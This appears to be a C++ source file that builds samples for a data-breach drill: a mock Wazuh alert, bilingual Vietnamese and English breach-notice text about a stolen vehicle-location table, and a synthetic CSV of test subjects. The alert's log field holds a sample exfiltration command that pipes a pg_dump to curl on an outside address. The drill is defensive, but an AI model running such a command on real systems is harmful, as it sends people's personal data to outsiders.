#include "ctl/drill/samples.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <array>

#include "ctl/drill/world.hpp"

namespace breachd::ctl {

namespace {

// "2026-11-20T10:30:00.123+0000", the way Wazuh writes it.
std::string wazuh_time(Instant at) {
    auto text = format_rfc3339(std::chrono::floor<std::chrono::seconds>(at));
    return text.substr(0, text.size() - 1) + fmt::format(".{:03}+0000", to_ms(at) % 1000);
}

bool has_kind(const Asset& asset, const char* kind) {
    return std::find(asset.kinds.begin(), asset.kinds.end(), kind) != asset.kinds.end();
}

}  // namespace

DrillTarget drill_target(const Settings& settings) {
    for (const auto& asset : settings.assets)
        if (!asset.hosts.empty() && (has_kind(asset, "location") || has_kind(asset, "biometric"))) {
            auto host = asset.hosts.front();  // may be a glob
            std::replace(host.begin(), host.end(), '*', '1');
            return {asset.name, host};
        }
    return {};
}

std::string wazuh_alert(const DrillTarget& target, Instant at) {
    json::object alert{{"timestamp", wazuh_time(at)},
                       {"rule",
                        {{"level", 14},
                         {"description", "Data exfiltration: database dump copied to an outside address"},
                         {"id", "100214"},
                         {"mitre",
                          {{"id", {"T1048"}},
                           {"tactic", {"Exfiltration"}},
                           {"technique", {"Exfiltration Over Alternative Protocol"}}}},
                         {"firedtimes", 1},
                         {"groups", {"local", "database", "exfiltration"}}}},
                       {"agent", {{"id", "007"}, {"name", target.host}, {"ip", "192.0.2.7"}}},
                       {"manager", {{"name", "siem-1"}}},
                       {"id", fmt::format("{}.4711", to_ms(at) / 1000)},
                       {"full_log", "pg_dump tracking | curl -T - https://203.0.113.66/drop"},
                       {"decoder", {{"name", "pg-audit"}}},
                       {"data", {{"srcuser", "svc_report"}, {"dstip", "192.0.2.7"}, {"table", "tracking.positions"}}},
                       {"location", "/var/log/postgresql/audit.log"}};
    return json::serialize(alert);
}

json::object drill_facts(std::int64_t subjects) {
    return {
        {"place", "Trung tâm dữ liệu Ví Dụ, Hà Nội"},
        {"description",
         "Tài khoản dịch vụ svc_report bị chiếm dụng để sao chép bảng vị trí phương tiện ra ngoài hệ thống."},
        {"detected_how", "Cảnh báo của hệ thống giám sát an ninh (SIEM) về việc sao chép cơ sở dữ liệu ra ngoài."},
        {"consequences", "Người ngoài có thể biết nơi ở, nơi làm việc và thói quen đi lại của chủ thể dữ liệu."},
        {"severity_and_risks",
         "Mức độ cao: dữ liệu vị trí có thể bị dùng để theo dõi, quấy rối hoặc lừa đảo chủ thể dữ liệu."},
        {"measures",
         "Đã khóa tài khoản, chặn địa chỉ đích, thu hồi khóa truy cập; đang rà soát nhật ký; sẽ mã hóa bảng vị trí và "
         "siết quyền đọc."},
        {"guidance",
         "Cảnh giác với cuộc gọi, tin nhắn lạ nhắc đến nơi Quý khách thường lui tới; đổi mật khẩu; báo cho chúng tôi "
         "khi có "
         "dấu hiệu bất thường."},
        {"place_en", "Ví Dụ data centre, Hà Nội"},
        {"description_en",
         "The service account svc_report was taken over and used to copy the table of vehicle positions out of our "
         "systems."},
        {"detected_how_en", "An alert of the security monitoring system (SIEM) that a database was being copied out."},
        {"consequences_en", "Outsiders may learn where you live and work and how you usually travel."},
        {"severity_and_risks_en",
         "High: location data can be used to follow, harass or deceive the people it is about."},
        {"measures_en",
         "The account was locked, the destination blocked and access keys revoked; logs are being reviewed; the table "
         "of "
         "positions will be encrypted and read access tightened."},
        {"guidance_en",
         "Beware of unexpected calls and messages that mention places you often go to; change your password; tell us "
         "when something seems wrong."},
        {"parties", json::array{"Công ty Cổ phần Ví Dụ (bên kiểm soát dữ liệu)"}},
        {"kinds", json::array{json::object{{"kind", "location"}, {"records", subjects * 30}, {"subjects", subjects}}}},
        {"reason", "Đếm lại theo danh sách trích từ hệ thống; con số ban đầu là ước tính của danh mục tài sản."},
    };
}

std::string subjects_csv() {
    constexpr std::array kFamily = {"Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi"};
    constexpr std::array kGiven = {"An", "Bình", "Châu", "Dũng", "Giang", "Hạnh", "Khôi", "Linh", "Minh", "Ngọc"};
    std::string out = "subject_ref,name,email,phone,zalo_id,push_token,language,kinds\n";
    for (int i = 1; i <= kDrillSubjects; ++i) {
        bool has_mail = i <= 28, has_phone = i <= 20 || (i > 28 && i <= 33), has_app = i > 33 && i <= 36;
        std::string email = has_mail ? fmt::format("khach{:02}@hopthu.test", i) : "";
        std::string phone = has_phone ? fmt::format("09000001{:02}", i) : "";
        std::string app = has_app ? fmt::format("thiet-bi-thu-{:02}", i) : "";
        if (i == 3 || i == 11) email = fmt::format("{}-{}@hopthu.test", kBadMailbox, i);
        if (i == 38) email = "không phải địa chỉ";                              // no address at all
        if (i == 39) email = fmt::format("{}-{}@hopthu.test", kBadMailbox, i);  // refused by the mail server
        if (i == 40) phone = "12345";                                           // no telephone number
        auto number = static_cast<std::size_t>(i);
        out += fmt::format("KH-{:04},{} Thử {},{},{},,{},{},\n", i, kFamily[number % kFamily.size()],
                           kGiven[number % kGiven.size()], email, phone, app, i % 10 == 0 ? "en" : "vi");
    }
    return out;
}

}  // namespace breachd::ctl
